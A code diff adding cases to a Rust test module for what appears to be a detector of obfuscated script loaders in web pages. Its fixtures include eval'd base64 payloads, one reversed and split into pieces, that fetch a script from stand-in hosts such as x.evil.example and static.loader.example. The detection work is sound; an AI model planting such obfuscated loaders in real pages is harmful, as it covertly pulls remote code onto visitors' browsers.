@@ -1243,6 +1243,11 @@ mod tests {
         // out or not (`document.write('<script src="http://x.evil.example/a.js"><\/script>')`).
         let run = "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8veC5ldmlsLmV4YW1wbGUvYS5qcyI+PFwvc2NyaXB0PicpOw=='))</script>";
         assert_eq!(terms(run), vec!["x.evil.example->document.write"]);
+        // spam/162 (round 6 blind batch, tune split), abridged: base64
+        // written backwards in pieces, and `eval` of what its own decoder
+        // makes of it — the next stage's address never shows.
+        let reversed = "<script>j = 'hp7cycq5SYvMnavUGbw1WY4' + 'VmLyVGZh9GbuMWa0FGdz9yL6MHc0RHan0zc'; eval(no(nv(j)));</script>";
+        assert_eq!(terms(reversed), vec!["static.loader.example->eval"]);
         // What sites write themselves: the government-site badge and CNZZ
         // percent-encode the markup around an address the source shows;
         // a template escapes only punctuation; a host built from a variable
@@ -1255,6 +1260,8 @@ mod tests {
             "<script>var i = document.createElement('img'); i.src = atob('aHR0cHM6Ly93d3cuZ3N0YXRpYy5jb20vaW1hZ2VzL3dhcm5pbmcucG5n');</script>",
             r#"<script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)d[c]=k[c]||c;k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);return p}('0.1("<2 3=\\"4://5.6.7/8.9\\"></2>")',10,10,'document|write|script|src|https|cdn|partner|com|w|js'.split('|'),0,{}))</script>"#,
             "<script>window.location.href = atob('aHR0cDovL20uZXhhbXBsZS5nb3YuY24v');</script>",
+            // A timer's function is no sink.
+            "<script>var u = atob('aHR0cDovL2EuZXhhbXBsZS5jb20v'); setTimeout(function(){ log(u) }, 10);</script>",
         ] {
             assert!(terms(own).is_empty(), "{own}");
         }
